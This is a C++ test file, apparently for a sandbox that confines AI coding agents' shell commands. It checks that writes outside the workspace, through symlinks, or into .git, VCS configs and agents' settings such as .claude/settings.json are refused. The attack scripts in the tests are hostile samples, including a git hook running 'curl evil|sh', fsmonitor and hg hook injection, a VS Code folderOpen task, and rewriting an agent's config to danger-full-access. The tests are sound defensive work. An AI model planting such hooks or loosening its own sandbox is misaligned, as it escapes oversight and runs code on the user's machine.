// T1 for the command sandbox, writes: under workspace-write a command changes the workspace
// and nothing else — not a directory outside (even one the caller may write), not through a
// planted symlink, not .git (hooks, config, replacing the directory) nor .anvil; the
// read-only policy denies every write; --writable-git, --read-only-subpath and --writable-root
// do what they say.
#include <sys/stat.h>
#include <unistd.h>

#include <cstdio>
#include <string>
#include <thread>
#include <vector>

#include "sandbox_harness.h"

namespace anvil::testing {
namespace t1_sandbox_write_escape_test {
namespace {

constexpr char kGitConfig[] = "[core]\n\trepositoryformatversion = 0\n";
constexpr char kHook[] = "#!/bin/sh\nexit 0\n";

class T1SandboxWrite : public CallerTest {
 protected:
  void SetUp() override {
    CallerTest::SetUp();
    if (IsSkipped()) return;
    // World-writable (not sticky: fs.protected_regular would then refuse some writes by
    // itself), so that for both callers only the sandbox refuses them.
    chmod(outside_.path().c_str(), 0777);
    WriteFile(outside_ / "target.txt", "original\n", 0666);
    ws_ = outside_ / "ws";
    ASSERT_EQ(mkdir(ws_.c_str(), 0755), 0);
    ASSERT_EQ(mkdir((ws_ + "/.git").c_str(), 0755), 0);
    ASSERT_EQ(mkdir((ws_ + "/.git/hooks").c_str(), 0755), 0);
    ASSERT_EQ(mkdir((ws_ + "/.anvil").c_str(), 0755), 0);
    WriteFile(ws_ + "/.git/config", kGitConfig);
    WriteFile(ws_ + "/.git/HEAD", "ref: refs/heads/main\n");
    WriteFile(ws_ + "/.git/hooks/pre-commit.sample", kHook, 0755);
    WriteFile(ws_ + "/.anvil/grants.json", "{}\n");
    WriteFile(ws_ + "/hello.txt", "benign\n");
    caller_.Give(ws_);
  }

  RunResult Sh(const std::string& script, const std::vector<std::string>& flags = {}) {
    return SandboxSh(ws_, script, flags, Opts());
  }
  // The protected files are exactly as the test made them.
  void ExpectGitUntouched() {
    EXPECT_EQ(ReadFile(ws_ + "/.git/config"), kGitConfig);
    EXPECT_EQ(ReadFile(ws_ + "/.git/hooks/pre-commit.sample"), kHook);
    EXPECT_FALSE(Exists(ws_ + "/.git/hooks/pre-commit"));
    EXPECT_FALSE(Exists(ws_ + "/.git/hooks/post-checkout"));
    EXPECT_EQ(ReadFile(ws_ + "/.anvil/grants.json"), "{}\n");
  }

  TempDir outside_{"anvil-outside", "/var/tmp"};
  std::string ws_;
};

TEST_P(T1SandboxWrite, WriteOutsideWorkspaceIsDenied) {
  auto benign = Sh("echo written > new.txt && echo more >> hello.txt && cat new.txt");
  EXPECT_EQ(benign.status, 0) << benign.err;
  EXPECT_EQ(ReadFile(ws_ + "/new.txt"), "written\n");
  EXPECT_EQ(ReadFile(ws_ + "/hello.txt"), "benign\nmore\n");

  const std::string out = ShellQuote(outside_.path());
  auto control = Sh("echo control > " + out + "/control", {"--policy", "danger-full-access"});
  ASSERT_EQ(ReadFile(outside_ / "control"), "control\n")
      << "control: unconfined, the caller can write outside; " << control.err;
  // Runtime roots too; unique names, removed below should the sandbox ever fail open.
  const std::string token = UniqueToken("anvil-pwned");
  const std::vector<std::string> runtime = {"/usr/" + token, "/etc/" + token, "/dev/" + token};
  auto attack = Sh("echo pwned > " + out + "/pwned-abs; echo pwned > ../pwned-dotdot; " +
                   "echo pwned >> " + out + "/target.txt; echo pwned > /proc/self/root" + out +
                   "/pwned-proc; mkdir ../pwned-dir; touch " + runtime[0] + " " + runtime[1] +
                   "; echo pwned > " + runtime[2]);
  EXPECT_NE(attack.status, 0);
  for (const char* name : {"pwned-abs", "pwned-dotdot", "pwned-proc", "pwned-dir"}) {
    EXPECT_FALSE(Exists(outside_ / name)) << name;
  }
  EXPECT_EQ(ReadFile(outside_ / "target.txt"), "original\n");
  for (const auto& path : runtime) {
    EXPECT_FALSE(Exists(path)) << path;
    std::remove(path.c_str());
  }
}

TEST_P(T1SandboxWrite, WriteThroughSymlinkInWorkspacePointingOutsideIsDenied) {
  ASSERT_EQ(symlink(outside_.path().c_str(), (ws_ + "/out-dir").c_str()), 0);
  ASSERT_EQ(symlink((outside_ / "target.txt").c_str(), (ws_ + "/out-file").c_str()), 0);
  ASSERT_EQ(symlink("hello.txt", (ws_ + "/in-file").c_str()), 0);
  caller_.Give(ws_);

  auto benign = Sh("echo via-link >> in-file");
  EXPECT_EQ(benign.status, 0) << benign.err;
  EXPECT_EQ(ReadFile(ws_ + "/hello.txt"), "benign\nvia-link\n");

  auto attack =
      Sh("echo pwned > out-dir/pwned; echo pwned >> out-file; echo pwned > out-file; "
         "cp hello.txt out-dir/copied; mkdir out-dir/sub");
  EXPECT_NE(attack.status, 0);
  EXPECT_EQ(ReadFile(outside_ / "target.txt"), "original\n");
  EXPECT_FALSE(Exists(outside_ / "pwned"));
  EXPECT_FALSE(Exists(outside_ / "copied"));
  EXPECT_FALSE(Exists(outside_ / "sub"));
}

TEST_P(T1SandboxWrite, WriteIntoGitHooksIsDenied) {
  auto benign = Sh("cat .git/HEAD && ls .git/hooks && echo ok > src.txt");
  EXPECT_EQ(benign.status, 0) << benign.err;
  EXPECT_EQ(benign.out, "ref: refs/heads/main\npre-commit.sample\n");
  EXPECT_EQ(ReadFile(ws_ + "/src.txt"), "ok\n");

  auto attack =
      Sh("printf '#!/bin/sh\\ncurl evil|sh\\n' > .git/hooks/pre-commit; "
         "cp .git/hooks/pre-commit.sample .git/hooks/post-checkout; "
         "echo evil >> .git/hooks/pre-commit.sample; "
         "mv .git/hooks/pre-commit.sample .git/hooks/pre-commit; "
         "chmod 777 .git/hooks/pre-commit.sample; rm -rf .git/hooks");
  EXPECT_NE(attack.status, 0);
  ExpectGitUntouched();
  struct stat st {};
  ASSERT_EQ(stat((ws_ + "/.git/hooks/pre-commit.sample").c_str(), &st), 0);
  EXPECT_EQ(st.st_mode & 07777, 0755u);
}

TEST_P(T1SandboxWrite, WriteIntoGitConfigIsDenied) {
  auto benign = Sh("grep -c repositoryformatversion .git/config");
  EXPECT_EQ(benign.status, 0) << benign.err;
  EXPECT_EQ(benign.out, "1\n");

  // core.fsmonitor / core.hooksPath run a program on the user's next `git status`.
  auto attack =
      Sh("printf '[core]\\n\\tfsmonitor = /tmp/x\\n' >> .git/config; "
         ": > .git/config; echo x > cfg.new && mv cfg.new .git/config; "
         "rm -f .git/config; ln -sf /tmp/evil .git/config; "
         "echo x > .git/info-attributes");
  EXPECT_NE(attack.status, 0);
  ExpectGitUntouched();
  EXPECT_FALSE(Exists(ws_ + "/.git/info-attributes"));
}

TEST_P(T1SandboxWrite, WriteIntoAnvilStateDirIsDenied) {
  auto benign = Sh("cat .anvil/grants.json");
  EXPECT_EQ(benign.status, 0) << benign.err;
  EXPECT_EQ(benign.out, "{}\n");

  auto attack =
      Sh("echo '{\"grant\":\"all\"}' > .anvil/grants.json; echo x > .anvil/new; "
         "rm -rf .anvil; mv .anvil anvil-old");
  EXPECT_NE(attack.status, 0);
  ExpectGitUntouched();
  EXPECT_FALSE(Exists(ws_ + "/.anvil/new"));
  EXPECT_FALSE(Exists(ws_ + "/anvil-old"));
}

// An AI agent's project configuration decides what that agent runs on the host (Claude Code's
// .claude/settings.json hooks and permissions, .mcp.json servers, Codex's .codex/config.toml
// sandbox mode): a command the agent runs through Anvil keeps it as it is. Existing ones (at
// the top, nested, behind a symlink) are read-only; new ones (a file, a directory, a symlink)
// are moved aside after the run. Other dot-directories stay the command's.
TEST_P(T1SandboxWrite, AnAgentsProjectConfigIsNotTheCommandsToChange) {
  const std::string settings = "{\"permissions\":{}}\n";
  for (const char* d : {"/.claude", "/pkg", "/pkg/.codex", "/shared", "/.vscode"}) {
    ASSERT_EQ(mkdir((ws_ + d).c_str(), 0755), 0);
  }
  WriteFile(ws_ + "/.claude/settings.json", settings);
  WriteFile(ws_ + "/pkg/.codex/config.toml", "approval_policy = \"on-request\"\n");
  WriteFile(ws_ + "/shared/gemini.json", "{}\n");
  ASSERT_EQ(symlink("shared", (ws_ + "/.gemini").c_str()), 0);
  caller_.Give(ws_);

  auto benign = Sh("cat .claude/settings.json && echo '{}' > .vscode/settings.json && echo ok");
  EXPECT_EQ(benign.status, 0) << benign.err;
  EXPECT_NE(benign.out.find("ok"), std::string::npos);

  auto attack =
      Sh("echo '{\"hooks\":{}}' > .claude/settings.json; echo x > .claude/new.json; "
         "echo 'sandbox_mode = \"danger-full-access\"' > pkg/.codex/config.toml; "
         "echo '{}' > shared/gemini.json; rm -rf .claude; mv pkg/.codex pkg/codex-old; "
         "echo '{\"mcpServers\":{}}' > .mcp.json; mkdir -p pkg/.claude; "
         "echo x > pkg/.claude/settings.json; ln -s shared/evil.json sub.mcp; "
         "mkdir -p deep && ln -s ../shared deep/.cursor; true");
  EXPECT_EQ(ReadFile(ws_ + "/.claude/settings.json"), settings);
  EXPECT_FALSE(Exists(ws_ + "/.claude/new.json"));
  EXPECT_EQ(ReadFile(ws_ + "/pkg/.codex/config.toml"), "approval_policy = \"on-request\"\n");
  EXPECT_FALSE(Exists(ws_ + "/pkg/codex-old"));
  EXPECT_EQ(ReadFile(ws_ + "/shared/gemini.json"), "{}\n");
  // Made by the command: moved aside, with a line that says so.
  struct stat st {};
  EXPECT_NE(lstat((ws_ + "/.mcp.json").c_str(), &st), 0);
  EXPECT_NE(lstat((ws_ + "/pkg/.claude").c_str(), &st), 0);
  EXPECT_NE(lstat((ws_ + "/deep/.cursor").c_str(), &st), 0);
  EXPECT_TRUE(Exists(ws_ + "/.mcp.json.anvil-quarantine")) << attack.err;
  EXPECT_NE(attack.err.find("an AI agent's project configuration"), std::string::npos)
      << attack.err;
  EXPECT_TRUE(Exists(ws_ + "/.vscode/settings.json"));
  ExpectGitUntouched();
  // The link itself replaced by the command's own directory: moved aside after the run.
  auto swap = Sh("rm .gemini && mkdir .gemini && echo '{}' > .gemini/settings.json; true");
  EXPECT_NE(lstat((ws_ + "/.gemini").c_str(), &st), 0) << swap.err;
  EXPECT_TRUE(Exists(ws_ + "/.gemini.anvil-quarantine")) << swap.err;
}

// Other version control systems run code from their repository's config: hg runs the hooks and
// extensions of `.hg/hgrc` (in a repository the user owns), jj of versions that read it takes
// `ui.pager` and aliases from `.jj/repo/config.toml`. Existing ones stay read-only at any depth;
// a `.hg` or `.jj` the command makes (a nested `sub/.hg/hgrc`) is moved aside after the run.
// Files named like them elsewhere (`.hgignore`, a plain `hgrc`) stay the command's.
TEST_P(T1SandboxWrite, AMercurialOrJujutsuRepositorysConfigIsNotTheCommandsToChange) {
  const std::string hgrc = "[paths]\ndefault = https://example.org/repo\n";
  for (const char* d : {"/.hg", "/.hg/store", "/lib", "/lib/.hg", "/.jj", "/.jj/repo"}) {
    ASSERT_EQ(mkdir((ws_ + d).c_str(), 0755), 0);
  }
  WriteFile(ws_ + "/.hg/hgrc", hgrc);
  WriteFile(ws_ + "/.hg/requires", "store\n");
  WriteFile(ws_ + "/lib/.hg/hgrc", hgrc);
  WriteFile(ws_ + "/.jj/repo/config.toml", "[ui]\n");
  caller_.Give(ws_);

  auto benign =
      Sh("cat .hg/hgrc && echo 'syntax: glob' > .hgignore && echo x > hgrc && "
         "mkdir -p notes && echo x > notes/hgrc && echo ok");
  EXPECT_EQ(benign.status, 0) << benign.err;
  EXPECT_NE(benign.out.find("ok"), std::string::npos) << benign.err;

  auto attack =
      Sh("printf '[hooks]\\npre-commit = touch /tmp/pwned\\n' >> .hg/hgrc; "
         "printf '[extensions]\\nevil = /tmp/evil.py\\n' >> lib/.hg/hgrc; "
         "echo x > .hg/hgrc-not-shared; rm -rf .hg; mv .hg hg-old; mv lib lib-old; "
         "printf '[ui]\\npager = \"touch /tmp/pwned\"\\n' > .jj/repo/config.toml; "
         "mkdir -p sub/.hg && printf '[hooks]\\nupdate = touch /tmp/pwned\\n' > sub/.hg/hgrc; "
         "mkdir -p n/.jj/repo && echo x > n/.jj/repo/config.toml; true");
  EXPECT_EQ(ReadFile(ws_ + "/.hg/hgrc"), hgrc);
  EXPECT_EQ(ReadFile(ws_ + "/lib/.hg/hgrc"), hgrc);
  EXPECT_FALSE(Exists(ws_ + "/.hg/hgrc-not-shared"));
  EXPECT_FALSE(Exists(ws_ + "/hg-old"));
  EXPECT_FALSE(Exists(ws_ + "/lib-old"));
  EXPECT_EQ(ReadFile(ws_ + "/.jj/repo/config.toml"), "[ui]\n");
  // Made by the command: moved aside, with a line that says so.
  struct stat st {};
  EXPECT_NE(lstat((ws_ + "/sub/.hg").c_str(), &st), 0) << attack.err;
  EXPECT_NE(lstat((ws_ + "/n/.jj").c_str(), &st), 0) << attack.err;
  EXPECT_TRUE(Exists(ws_ + "/sub/.hg.anvil-quarantine/hgrc")) << attack.err;
  EXPECT_NE(attack.err.find("version control repository's metadata"), std::string::npos)
      << attack.err;
  // The benign neighbours stay as the command left them.
  EXPECT_EQ(ReadFile(ws_ + "/.hgignore"), "syntax: glob\n");
  EXPECT_EQ(ReadFile(ws_ + "/notes/hgrc"), "x\n");
  ExpectGitUntouched();
}

// Sapling's .sl (its config's [hooks] and aliases, run by sl), Darcs' _darcs (prefs/defaults
// names the options, and so the commands, darcs runs: a --test or a posthook) and Pijul's
// .pijul (its config's hooks): kept as .hg and .jj are — what exists read-only at any depth, a
// new one moved aside after the run. Files by neighbouring names stay writable.
TEST_P(T1SandboxWrite, SaplingDarcsOrPijulRepositorysConfigIsNotTheCommandsToChange) {
  for (const char* d : {"/.sl", "/_darcs", "/_darcs/prefs", "/.pijul", "/lib", "/lib/.sl"}) {
    ASSERT_EQ(mkdir((ws_ + d).c_str(), 0755), 0);
  }
  WriteFile(ws_ + "/.sl/config", "[paths]\n");
  WriteFile(ws_ + "/lib/.sl/config", "[paths]\n");
  WriteFile(ws_ + "/_darcs/prefs/defaults", "ALL --look-for-adds\n");
  WriteFile(ws_ + "/.pijul/config", "[hooks]\n");
  caller_.Give(ws_);

  auto benign =
      Sh("cat .sl/config _darcs/prefs/defaults && echo x > .slignore && echo x > darcs && "
         "mkdir -p notes && echo x > notes/defaults && echo x > .pijulignore && echo ok");
  EXPECT_EQ(benign.status, 0) << benign.err;
  EXPECT_NE(benign.out.find("ok"), std::string::npos) << benign.err;

  auto attack =
      Sh("printf '[hooks]\\npre-commit = touch /tmp/pwned\\n' >> .sl/config; "
         "printf '[hooks]\\npre-commit = touch /tmp/pwned\\n' >> lib/.sl/config; "
         "echo 'record posthook touch /tmp/pwned' >> _darcs/prefs/defaults; "
         "printf '[hooks]\\nrecord = [\"touch /tmp/pwned\"]\\n' >> .pijul/config; "
         "rm -rf .pijul; mv _darcs darcs-old; mv lib lib-old; "
         "mkdir -p sub/_darcs/prefs && echo 'ALL test touch /tmp/pwned' > "
         "sub/_darcs/prefs/defaults; mkdir -p n/.pijul && echo x > n/.pijul/config; "
         "mkdir -p m/.sl && echo x > m/.sl/config; true");
  EXPECT_EQ(ReadFile(ws_ + "/.sl/config"), "[paths]\n");
  EXPECT_EQ(ReadFile(ws_ + "/lib/.sl/config"), "[paths]\n");
  EXPECT_EQ(ReadFile(ws_ + "/_darcs/prefs/defaults"), "ALL --look-for-adds\n");
  EXPECT_EQ(ReadFile(ws_ + "/.pijul/config"), "[hooks]\n");
  EXPECT_FALSE(Exists(ws_ + "/darcs-old"));
  EXPECT_FALSE(Exists(ws_ + "/lib-old"));
  // Made by the command: moved aside, with a line that says so.
  struct stat st {};
  for (const char* made : {"/sub/_darcs", "/n/.pijul", "/m/.sl"}) {
    EXPECT_NE(lstat((ws_ + made).c_str(), &st), 0) << made << attack.err;
  }
  EXPECT_TRUE(Exists(ws_ + "/sub/_darcs.anvil-quarantine/prefs/defaults")) << attack.err;
  EXPECT_NE(attack.err.find("version control repository's metadata"), std::string::npos)
      << attack.err;
  // The benign neighbours stay as the command left them.
  EXPECT_EQ(ReadFile(ws_ + "/.slignore"), "x\n");
  EXPECT_EQ(ReadFile(ws_ + "/darcs"), "x\n");
  EXPECT_EQ(ReadFile(ws_ + "/notes/defaults"), "x\n");
  ExpectGitUntouched();
}

// VS Code runs a task of .vscode/tasks.json whose runOptions.runOn is "folderOpen" when the
// folder is opened (in a trusted workspace, without asking again), and starts the servers of
// .vscode/mcp.json (commands) for its agent; Cursor and Windsurf read the same files. Those two
// files are kept, at any depth, as an agent's configuration is; the rest of .vscode (settings,
// launch configurations, recommended extensions) and files of those names elsewhere stay the
// command's to write.
TEST_P(T1SandboxWrite, VsCodesFolderOpenTasksAndMcpServersAreNotTheCommandsToChange) {
  for (const char* d : {"/.vscode", "/pkg", "/pkg/.vscode"}) {
    ASSERT_EQ(mkdir((ws_ + d).c_str(), 0755), 0);
  }
  const std::string tasks = "{\"version\": \"2.0.0\", \"tasks\": []}\n";
  WriteFile(ws_ + "/.vscode/tasks.json", tasks);
  WriteFile(ws_ + "/.vscode/mcp.json", "{\"servers\": {}}\n");
  WriteFile(ws_ + "/pkg/.vscode/tasks.json", tasks);
  for (const char* d : {"/.claude", "/keep"}) ASSERT_EQ(mkdir((ws_ + d).c_str(), 0755), 0);
  WriteFile(ws_ + "/.claude/settings.json", "{\"permissions\": {}}\n");
  WriteFile(ws_ + "/keep/f", "mine\n");
  caller_.Give(ws_);

  auto benign =
      Sh("cat .vscode/tasks.json && echo '{}' > .vscode/settings.json && "
         "echo '{}' > .vscode/launch.json && echo '{}' > .vscode/extensions.json && "
         "echo '{}' > tasks.json && mkdir -p notes && echo '{}' > notes/mcp.json && "
         "echo '{}' > pkg/.vscode/settings.json && echo ok");
  EXPECT_EQ(benign.status, 0) << benign.err;
  EXPECT_NE(benign.out.find("ok"), std::string::npos) << benign.err;

  const std::string evil =
      "{\"version\": \"2.0.0\", \"tasks\": [{\"label\": \"x\", \"type\": \"shell\", "
      "\"command\": \"touch /tmp/pwned\", \"runOptions\": {\"runOn\": \"folderOpen\"}}]}";
  auto attack =
      Sh("echo '" + evil + "' > .vscode/tasks.json; echo '" + evil +
         "' > pkg/.vscode/tasks.json; rm -f .vscode/mcp.json; "
         "mv .vscode vscode-old; mv pkg pkg-old; "
         "mkdir -p sub/.vscode && echo '" +
         evil +
         "' > sub/.vscode/tasks.json; "
         "mkdir -p n/.vscode && echo '{\"servers\": {}}' > n/.vscode/mcp.json; "
         "mkdir -p o && echo '" +
         evil +
         "' > o/t.json && mkdir o/.vscode && "
         "mv o/t.json o/.vscode/tasks.json; "
         "mkdir -p x1 p1 && echo '" +
         evil + "' > x1/tasks.json && ln -s ../x1 p1/.vscode; " +
         "mkdir -p p2 p3 && ln -s ../.claude p2/.vscode && ln -s ../keep p3/.vscode; true");
  EXPECT_EQ(ReadFile(ws_ + "/.vscode/tasks.json"), tasks);
  EXPECT_EQ(ReadFile(ws_ + "/pkg/.vscode/tasks.json"), tasks);
  EXPECT_EQ(ReadFile(ws_ + "/.vscode/mcp.json"), "{\"servers\": {}}\n");
  EXPECT_FALSE(Exists(ws_ + "/vscode-old"));
  EXPECT_FALSE(Exists(ws_ + "/pkg-old"));
  // Made by the command: moved aside, with a line that says so.
  struct stat st {};
  for (const char* made :
       {"/sub/.vscode/tasks.json", "/n/.vscode/mcp.json", "/o/.vscode/tasks.json"}) {
    EXPECT_NE(lstat((ws_ + made).c_str(), &st), 0) << made << attack.err;
  }
  EXPECT_TRUE(Exists(ws_ + "/sub/.vscode/tasks.json.anvil-quarantine")) << attack.err;
  // Review s14: a `.vscode` made as a symlink to a directory holding the task (VS Code reads
  // tasks.json through it) is moved aside as a whole; the directory it named is no `.vscode`
  // once the link is gone, and stays.
  EXPECT_NE(lstat((ws_ + "/p1/.vscode").c_str(), &st), 0) << attack.err;
  EXPECT_TRUE(Exists(ws_ + "/p1/.vscode.anvil-quarantine")) << attack.err;
  EXPECT_TRUE(Exists(ws_ + "/x1/tasks.json")) << attack.err;
  EXPECT_NE(attack.err.find("VS Code"), std::string::npos) << attack.err;
  // Review s15: such a link to a directory the user had (their `.claude`, a plain directory)
  // made the check move that directory aside: only the links go.
  for (const char* link : {"/p2/.vscode", "/p3/.vscode"}) {
    EXPECT_NE(lstat((ws_ + link).c_str(), &st), 0) << link << attack.err;
  }
  EXPECT_EQ(ReadFile(ws_ + "/.claude/settings.json"), "{\"permissions\": {}}\n") << attack.err;
  EXPECT_EQ(ReadFile(ws_ + "/keep/f"), "mine\n") << attack.err;
  EXPECT_FALSE(Exists(ws_ + "/.claude.anvil-quarantine")) << attack.err;
  EXPECT_FALSE(Exists(ws_ + "/keep.anvil-quarantine")) << attack.err;
  // The benign neighbours stay as the command left them.
  for (const char* f :
       {"/.vscode/settings.json", "/.vscode/launch.json", "/.vscode/extensions.json", "/tasks.json",
        "/notes/mcp.json", "/pkg/.vscode/settings.json"}) {
    EXPECT_EQ(ReadFile(ws_ + f), "{}\n") << f;
  }
  ExpectGitUntouched();
}

// --writable-git is the user's trust in the command with the repository's metadata: every
// version control system's, not only git's (hg commit, jj, sl, darcs record, pijul record
// work). Anvil's state and the agents' configurations stay read-only.
TEST_P(T1SandboxWrite, WritableGitOpensEveryRepositorysMetadata) {
  for (const char* d : {"/.hg", "/.jj", "/.sl", "/_darcs", "/.pijul", "/.claude"}) {
    ASSERT_EQ(mkdir((ws_ + d).c_str(), 0755), 0);
  }
  WriteFile(ws_ + "/.claude/settings.json", "{}\n");
  caller_.Give(ws_);
  const std::string script =
      "for d in .hg .jj .sl _darcs .pijul; do echo x > $d/written || exit 1; done; echo ok";

  auto without = Sh(script);
  EXPECT_NE(without.status, 0);
  EXPECT_FALSE(Exists(ws_ + "/.hg/written"));

  auto with = Sh(script, {"--writable-git"});
  EXPECT_EQ(with.status, 0) << with.err;
  for (const char* d : {"/.hg", "/.jj", "/.sl", "/_darcs", "/.pijul"}) {
    EXPECT_EQ(ReadFile(ws_ + d + "/written"), "x\n") << d;
  }
  auto kept = Sh("echo x > .claude/settings.json; echo x > .anvil/new; true", {"--writable-git"});
  EXPECT_EQ(ReadFile(ws_ + "/.claude/settings.json"), "{}\n") << kept.err;
  EXPECT_FALSE(Exists(ws_ + "/.anvil/new"));
}

// More agents' project configurations, each its own directory or file (Kiro's hooks and MCP
// servers, Qwen Code's and Continue's settings, Roo Code's and Amazon Q's MCP servers, crush's
// and Zed's settings): the same as above. Crush's own data directory (`.crush`) and VS Code's
// settings stay writable.
TEST_P(T1SandboxWrite, MoreAgentsProjectConfigsAreNotTheCommandsToChange) {
  for (const char* d : {"/.kiro", "/.kiro/settings", "/.qwen", "/.continue", "/.roo", "/.amazonq",
                        "/.zed", "/.vscode"}) {
    ASSERT_EQ(mkdir((ws_ + d).c_str(), 0755), 0);
  }
  const char* files[] = {".kiro/settings/mcp.json", ".qwen/settings.json", ".continue/config.yaml",
                         ".roo/mcp.json",           ".amazonq/mcp.json",   "crush.json",
                         ".zed/settings.json"};
  for (const char* f : files) WriteFile(ws_ + "/" + f, "{}\n");
  caller_.Give(ws_);

  auto benign =
      Sh("cat .zed/settings.json && echo '{}' > .vscode/settings.json && "
         "mkdir -p .crush && echo x > .crush/crush.db && echo ok");
  EXPECT_EQ(benign.status, 0) << benign.err;
  EXPECT_NE(benign.out.find("ok"), std::string::npos) << benign.err;

  std::string script;
  for (const char* f : files) script += std::string("echo evil > ") + f + "; ";
  script +=
      "mkdir -p .kiro/hooks && echo evil > .kiro/hooks/x.kiro.hook; "
      "echo '{\"mcp\":{}}' > .crush.json; mkdir -p pkg/.roo && echo evil > pkg/.roo/mcp.json; "
      "mv .continue continue-old; rm -rf .amazonq; true";
  auto attack = Sh(script);
  for (const char* f : files) EXPECT_EQ(ReadFile(ws_ + "/" + f), "{}\n") << f;
  EXPECT_FALSE(Exists(ws_ + "/.kiro/hooks"));
  EXPECT_FALSE(Exists(ws_ + "/continue-old"));
  struct stat st {};
  EXPECT_NE(lstat((ws_ + "/.crush.json").c_str(), &st), 0) << attack.err;
  EXPECT_NE(lstat((ws_ + "/pkg/.roo").c_str(), &st), 0) << attack.err;
  EXPECT_TRUE(Exists(ws_ + "/.crush.json.anvil-quarantine")) << attack.err;
  EXPECT_EQ(ReadFile(ws_ + "/.vscode/settings.json"), "{}\n");
  EXPECT_EQ(ReadFile(ws_ + "/.crush/crush.db"), "x\n");
  ExpectGitUntouched();
}

TEST_P(T1SandboxWrite, RenamingOrRemovingGitToReplaceItIsDenied) {
  auto attack =
      Sh("mv .git .git-old; rm -rf .git; "
         "mkdir -p fake/hooks && printf '#!/bin/sh\\nevil\\n' > fake/hooks/pre-commit && "
         "mv -T fake .git; mv fake/hooks .git/hooks-new; "
         "mkdir sub && mv .git sub/.git; ln -s fake .git-link && mv -T .git-link .git; "
         "/usr/bin/python3 -c 'import os; os.rename(\"fake\", \".git\")'");
  EXPECT_NE(attack.status, 0);
  ExpectGitUntouched();
  EXPECT_FALSE(Exists(ws_ + "/.git-old"));
  EXPECT_FALSE(Exists(ws_ + "/sub/.git"));
  EXPECT_FALSE(Exists(ws_ + "/.git/hooks-new"));
  struct stat st {};
  ASSERT_EQ(lstat((ws_ + "/.git").c_str(), &st), 0);
  EXPECT_TRUE(S_ISDIR(st.st_mode)) << ".git must still be the original directory";
  // Benign: the rest of the workspace stays fully writable, including renames and removals.
  auto benign = Sh("mkdir -p d1 && mv d1 d2 && rm -rf d2 fake sub && echo done");
  EXPECT_EQ(benign.status, 0) << benign.err;
  EXPECT_FALSE(Exists(ws_ + "/fake"));
}

TEST_P(T1SandboxWrite, HardLinkingProtectedGitConfigIntoWorkspaceDoesNotMakeItWritable) {
  auto attack =
      Sh("ln .git/config cfg-link && echo evil >> cfg-link; "
         "ln .git/hooks/pre-commit.sample hook-link && echo evil >> hook-link");
  EXPECT_NE(attack.status, 0);
  ExpectGitUntouched();
}

TEST_P(T1SandboxWrite, ReplacingASymlinkedGitDirectoryIsDenied) {
  // .git is a symlink to the real git dir (a layout some tools use). The protection must hold
  // for the name `.git`, not only for the directory it happens to point at now: replacing
  // the link with a fresh .git carrying hooks gets code run by the user's next `git commit`.
  TempDir ws2("anvil-ws-gitlink");
  ASSERT_EQ(mkdir((ws2 / "real-git").c_str(), 0755), 0);
  ASSERT_EQ(mkdir((ws2 / "real-git/hooks").c_str(), 0755), 0);
  WriteFile(ws2 / "real-git/config", kGitConfig);
  WriteFile(ws2 / "real-git/HEAD", "ref: refs/heads/main\n");
  ASSERT_EQ(symlink("real-git", (ws2 / ".git").c_str()), 0);
  caller_.Give(ws2.path());

  // The link itself is a plain, replaceable entry of the writable workspace: the sandbox
  // refuses to start (125) rather than run with a .git it cannot keep read-only.
  auto replace = SandboxSh(ws2.path(),
                           "echo ran > ran.txt; rm .git && mkdir -p .git/hooks && "
                           "printf '#!/bin/sh\\nevil\\n' > .git/hooks/pre-commit",
                           {}, Opts());
  EXPECT_EQ(replace.status, 125) << replace.err;
  EXPECT_NE(replace.err.find("symbolic link"), std::string::npos) << replace.err;
  EXPECT_FALSE(Exists(ws2 / "ran.txt")) << "the command ran although .git could not be protected";
  struct stat st {};
  ASSERT_EQ(lstat((ws2 / ".git").c_str(), &st), 0);
  EXPECT_TRUE(S_ISLNK(st.st_mode)) << "the .git symlink was replaced from inside the sandbox";
  EXPECT_FALSE(Exists(ws2 / "real-git/hooks/pre-commit"));

  // Benign: the user who accepts a writable .git (--writable-git) can run in that workspace.
  auto benign =
      SandboxSh(ws2.path(), "cat .git/HEAD && echo ok > file.txt", {"--writable-git"}, Opts());
  EXPECT_EQ(benign.status, 0) << benign.err;
  EXPECT_EQ(benign.out, "ref: refs/heads/main\n");
}

TEST_P(T1SandboxWrite, WritableGitFlagMakesGitWritableButNotAnvil) {
  auto result = Sh("echo '[user]' >> .git/config && printf '#!/bin/sh\\n' > .git/hooks/pre-push",
                   {"--writable-git"});
  EXPECT_EQ(result.status, 0) << result.err;
  EXPECT_EQ(ReadFile(ws_ + "/.git/config"), std::string(kGitConfig) + "[user]\n");
  EXPECT_TRUE(Exists(ws_ + "/.git/hooks/pre-push"));

  auto anvil_state = Sh("echo x > .anvil/new", {"--writable-git"});
  EXPECT_NE(anvil_state.status, 0);
  EXPECT_FALSE(Exists(ws_ + "/.anvil/new"));
}

// Codex protects .git only where it exists. In a workspace without one (a fresh directory, or
// a subdirectory of a repository whose .git is above the workspace), a command that creates
// .git with hooks or core.fsmonitor gets code run by the user's next `git` there, outside any
// sandbox. Anvil keeps the name itself: an empty directory bound read-only for the run
// (git skips an empty .git and keeps looking upward), removed afterwards. (A .anvil the
// command makes is harmless: Anvil reads nothing from it.)
TEST_P(T1SandboxWrite, CreatingGitWhereNoneExistsIsDenied) {
  TempDir ws2("anvil-ws-nogit");
  WriteFile(ws2 / "hello.txt", "benign\n");
  caller_.Give(ws2.path());
  auto attack =
      SandboxSh(ws2.path(),
                "mkdir -p .git/hooks && printf '#!/bin/sh\\nevil\\n' > .git/hooks/pre-commit; "
                "printf 'gitdir: /tmp/evil\\n' > .git; git init -q . 2>/dev/null; "
                "mkdir fake && mkdir fake/hooks && mv -T fake .git; ln -s fake .git; "
                "rmdir .git; echo ran > ran.txt",
                {}, Opts());
  EXPECT_EQ(ReadFile(ws2 / "ran.txt"), "ran\n") << attack.err;
  EXPECT_FALSE(Exists(ws2 / ".git")) << ".git was created by the command or left behind";
  // Benign: everything else in the workspace stays writable, nested directories included,
  // and the empty placeholders are visible only during the run.
  auto benign = SandboxSh(ws2.path(),
                          "mkdir -p build/.cache && echo ok > build/out.txt && "
                          "ls -a | grep -c '^\\.git$'; test -w hello.txt && echo writable",
                          {}, Opts());
  EXPECT_EQ(benign.status, 0) << benign.err;
  EXPECT_EQ(benign.out, "1\nwritable\n");
  EXPECT_EQ(ReadFile(ws2 / "build/out.txt"), "ok\n");
  EXPECT_FALSE(Exists(ws2 / ".git"));
  // --writable-git: the user lets the command make a repository.
  auto init = SandboxSh(ws2.path(), "mkdir -p .git/hooks && echo x > .git/HEAD", {"--writable-git"},
                        Opts());
  EXPECT_EQ(init.status, 0) << init.err;
